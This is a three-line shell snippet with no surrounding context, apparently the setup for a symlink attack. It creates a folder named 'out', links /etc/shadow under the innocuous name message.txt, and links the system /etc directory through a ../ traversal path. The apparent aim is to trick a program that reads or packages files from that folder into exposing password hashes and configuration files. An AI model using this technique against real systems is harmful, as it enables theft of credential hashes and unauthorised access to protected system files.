mkdir out
ln -s /etc/shadow out/message.txt
ln -s ../../../../etc out/etc
